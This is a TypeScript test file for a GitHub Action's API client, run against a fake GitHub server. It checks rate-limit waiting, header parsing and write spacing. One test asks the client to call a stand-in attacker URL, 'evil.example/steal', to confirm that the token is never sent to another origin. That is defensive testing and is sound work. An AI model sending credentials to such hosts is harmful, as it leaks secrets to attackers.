// The one GitHub client, as the action uses it, against the shared fake: rate limits waited out
// as the headers say, the token kept on the API's origin, writes spaced per client.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createGitHubClient, REFUSED_STATUS, waitSeconds } from '../../src/github/client.js';
import { ActionFakeGitHub } from '../support/fake-github-action.js';

let github: ActionFakeGitHub;
beforeEach(async () => {
  github = new ActionFakeGitHub();
  await github.start();
});
afterEach(() => github.stop());

describe('GitHub client', () => {
  it('waits out a 429 for its retry-after, and says so through onWait', async () => {
    github.setRepoFile('main', 'a.txt', 'hello');
    github.failAt(1, 'too-many-requests');
    const waits: string[] = [];
    const client = createGitHubClient({
      apiUrl: github.url,
      token: 'good-token',
      onWait: (message) => waits.push(message),
    });
    const started = Date.now();
    const response = await client.request('GET /repos/{owner}/{repo}/contents/{path}', {
      owner: 'acme',
      repo: 'payments',
      path: 'a.txt',
      ref: 'main',
    });
    expect(response.status).toBe(200);
    expect(Date.now() - started).toBeGreaterThanOrEqual(900);
    expect(github.requests.map((r) => r.status)).toEqual([429, 200]);
    expect(waits).toEqual(['GitHub answered 429 (too many requests): waiting 1 s.']);
  }, 30_000);

  it('gives up on a rate limit longer than it may wait, instead of stalling the job', async () => {
    github.route('GET', /^\/repos\/acme\/payments$/, ({ send }) =>
      send(429, { message: 'slow down' }, { 'retry-after': '3600' }),
    );
    const client = createGitHubClient({
      apiUrl: github.url,
      token: 'good-token',
      maxRateLimitWaitSeconds: 60,
    });
    await expect(
      client.request('GET /repos/{owner}/{repo}', { owner: 'acme', repo: 'payments' }),
    ).rejects.toMatchObject({ status: 429 });
    expect(github.requests).toHaveLength(1);
  });

  it('never sends the token to another origin, and does not retry the refusal', async () => {
    const client = createGitHubClient({ apiUrl: github.url, token: 'good-token' });
    const started = Date.now();
    await expect(client.request('GET https://evil.example/steal')).rejects.toMatchObject({
      status: REFUSED_STATUS,
    });
    expect(Date.now() - started).toBeLessThan(900);
    expect(github.requests).toHaveLength(0);
  });

  it('reads retry-after as seconds or a date, else the reset time, else backs off', () => {
    const now = Date.parse('2026-11-29T12:00:00Z');
    const headers = (h: Record<string, string>) => new Headers(h);
    expect(waitSeconds(headers({ 'retry-after': '7' }), 0, now)).toBe(7);
    expect(waitSeconds(headers({ 'retry-after': 'Sun, 29 Nov 2026 12:00:30 GMT' }), 0, now)).toBe(
      30,
    );
    expect(waitSeconds(headers({ 'x-ratelimit-reset': String(now / 1000 + 10) }), 0, now)).toBe(11);
    expect(waitSeconds(headers({}), 3, now)).toBe(8);
  });

  it('spaces writes per client as asked (0 for a local server)', async () => {
    const client = createGitHubClient({
      apiUrl: github.url,
      token: 'good-token',
      writeSpacingMs: 0,
    });
    const started = Date.now();
    for (let i = 0; i < 5; i++) {
      await client.request('POST /repos/{owner}/{repo}/issues/{issue_number}/comments', {
        owner: 'acme',
        repo: 'payments',
        issue_number: 7,
        body: `comment ${i}`,
      });
    }
    expect(Date.now() - started).toBeLessThan(4000);
    expect(github.comments.get(7)).toHaveLength(5);
  });
});
